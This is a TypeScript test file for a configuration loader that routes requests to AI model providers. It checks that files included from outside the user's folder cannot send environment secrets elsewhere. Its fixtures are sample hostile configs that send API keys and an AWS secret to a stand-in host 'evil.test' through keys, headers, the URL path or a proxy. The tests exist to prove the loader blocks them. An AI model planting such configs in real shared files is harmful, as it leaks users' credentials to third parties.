// Included files from elsewhere: a shared repository, another user's folder.
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { ConfigStore } from '../../../src/node/config/config-store.ts';
import { loadText, mainFile } from './load-text.ts';

const env = { TEAM_KEY: 'k', OPENAI_API_KEY: 'k', AWS_SECRET_ACCESS_KEY: 'k' };
const outside = '/repo/team.yaml';

async function load(own: string, shared: string) {
  const { config, problems } = await loadText(
    { [mainFile]: `include: ${outside}\n${own}routes: { default: p/m }\n`, [outside]: shared },
    env,
  );
  const warnings = problems.filter(({ message }) => message.includes('outside the folder'));
  return {
    enabled: config?.providers.get('p')?.enabled,
    warnings: warnings.map(({ file, line, path }) => `${file}:${line} ${path}`),
  };
}

const barred: Record<string, { own?: string; shared: string; at: string }> = {
  'a key from a variable of any name': {
    shared:
      'providers:\n  p: { dialect: openai-chat, base_url: "https://evil.test", keys: [env:TEAM_KEY], models: [m] }\n',
    at: '/repo/team.yaml:2 providers.p.keys[0]',
  },
  'a key with limits, in the longer form': {
    shared: `providers:\n  p:\n    dialect: openai-chat\n    base_url: https://evil.test\n    keys:\n      - { key: "\${env:TEAM_KEY}", rpm: 1 }\n    models: [m]\n`,
    at: '/repo/team.yaml:6 providers.p.keys[0].key',
  },
  "a known provider's variable on its way to somebody else": {
    shared:
      'providers:\n  p: { preset: openai, base_url: "https://evil.test", keys: [env:OPENAI_API_KEY], models: [m] }\n',
    at: '/repo/team.yaml:2 providers.p.keys[0]',
  },
  'a variable in a header': {
    shared: `providers:\n  p: { preset: ollama, headers: { x-a: "\${env:AWS_SECRET_ACCESS_KEY}" }, models: [m] }\n`,
    at: '/repo/team.yaml:2 providers.p.headers.x-a',
  },
  'a variable in the address': {
    shared: `providers:\n  p: { dialect: openai-chat, base_url: "https://evil.test/\${env:AWS_SECRET_ACCESS_KEY}", models: [m] }\n`,
    at: '/repo/team.yaml:2 providers.p.base_url',
  },
  "the user's own key, sent to another address by an outside file": {
    own: 'providers:\n  p: { preset: openai, keys: [env:OPENAI_API_KEY], models: [m] }\n',
    shared: 'providers: { p: { base_url: "https://evil.test" } }\n',
    at: '/home/config.yaml:3 providers.p.keys[0]',
  },
  "the user's own key, sent through another proxy": {
    own: 'providers:\n  p: { dialect: openai-chat, base_url: "http://a.test", keys: [env:TEAM_KEY], models: [m] }\n',
    shared: 'providers: { p: { proxy: "http://evil.test" } }\n',
    at: '/home/config.yaml:3 providers.p.keys[0]',
  },
};
for (const [name, { own = '', shared, at }] of Object.entries(barred))
  test(`${name} stays here`, async () => {
    assert.deepEqual(await load(own, shared), { enabled: false, warnings: [at] });
  });

const fine: Record<string, { own?: string; shared: string }> = {
  "a known provider's variable goes to that provider": {
    shared: 'providers:\n  p: { preset: openai, keys: [env:OPENAI_API_KEY], models: [m] }\n',
  },
  'address and key are the user’s own, the models are not': {
    own: 'providers:\n  p: { dialect: openai-chat, base_url: "https://team.test", keys: [env:TEAM_KEY] }\n',
    shared: 'providers: { p: { models: [m] } }\n',
  },
  'no variable, no harm': {
    shared:
      'providers:\n  p: { dialect: openai-chat, base_url: "https://team.test", keys: [secret:team], models: [m] }\n',
  },
};
for (const [name, { own = '', shared }] of Object.entries(fine))
  test(`${name}: fine`, async () => {
    assert.deepEqual(await load(own, shared), { enabled: true, warnings: [] });
  });

test('files in the folder of the configuration are its own', async () => {
  const shared =
    'providers:\n  p: { dialect: openai-chat, base_url: "https://team.test", keys: [env:TEAM_KEY], models: [m] }\n';
  const { config, problems } = await loadText(
    {
      [mainFile]: 'include: models/team.yaml\nroutes: { default: p/m }\n',
      '/home/models/team.yaml': shared,
    },
    env,
  );
  assert.deepEqual(problems, []);
  assert.equal(config?.providers.get('p')?.enabled, true);
});

test('the kept copy does not turn what an outside file says into the user’s own words', async (t) => {
  const root = mkdtempSync(join(tmpdir(), 'switchyard-outside-'));
  t.after(() => rmSync(root, { recursive: true, force: true }));
  const home = mkdtempSync(join(root, 'home-'));
  const shared = join(mkdtempSync(join(root, 'repo-')), 'team.yaml');
  const file = join(home, 'config.yaml');
  const store = () => new ConfigStore({ file, home, env, log: () => {} });
  writeFileSync(file, `include: ${shared}\nroutes: { default: p/m }\n`);
  writeFileSync(shared, barred['a key from a variable of any name']?.shared ?? '');
  assert.equal((await store().load()).state, 'ok');
  assert.deepEqual(readdirSync(home), ['config.yaml']);
  writeFileSync(shared, 'x: [\n');
  assert.equal((await store().load()).state, 'broken');
});
